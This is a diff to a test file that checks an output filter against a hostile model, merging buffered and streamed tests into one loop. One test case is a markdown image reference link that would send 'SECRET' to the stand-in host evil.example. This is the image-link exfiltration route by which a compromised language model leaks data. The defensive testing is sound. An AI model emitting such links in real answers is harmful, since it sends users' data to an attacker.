@@ -89,24 +89,17 @@ describe('a hostile model against the output screen', () => {
       ['a reference definition whose label spans two lines, with a one-slash URL', 'Chart: ![c][foo bar]\n\n[foo\nbar]: https:/evil.example/?d=SECRET\n'],
     ];
 
-    test.each(cases)('fails if %s reaches the client (buffered)', async (_name, answer) => {
-      // GIVEN a model answering with the link
-      server.setBehavior({ kind: 'reply', text: answer });
-      // WHEN the answer is asked for without streaming
-      const got = await ask(false);
-      // THEN the host outside the allow-list is not in what the client gets
-      expect(got.status).toBe(200);
-      expect(got.text).not.toContain('evil.example');
-    });
-
-    test.each(cases)('fails if %s reaches the client (streamed)', async (_name, answer) => {
-      // GIVEN a model streaming the link in 16-character deltas
-      server.setBehavior({ kind: 'reply', text: answer });
-      // WHEN the answer is streamed
-      const got = await ask(true);
-      // THEN the host outside the allow-list is not in what the client gets
-      expect(got.status).toBe(200);
-      expect(got.text).not.toContain('evil.example');
+    test('fails if any of these links reaches the client, buffered or streamed', async () => {
+      for (const stream of [false, true]) {
+        for (const [name, answer] of cases) {
+          // GIVEN a model answering with the link (streamed: in 16-character deltas)
+          server.setBehavior({ kind: 'reply', text: answer });
+          // WHEN the answer is asked for
+          const got = await ask(stream);
+          // THEN the host outside the allow-list is not in what the client gets
+          expect({ name, stream, status: got.status, leaked: got.text.includes('evil.example') }).toEqual({ name, stream, status: 200, leaked: false });
+        }
+      }
     });
   });
 
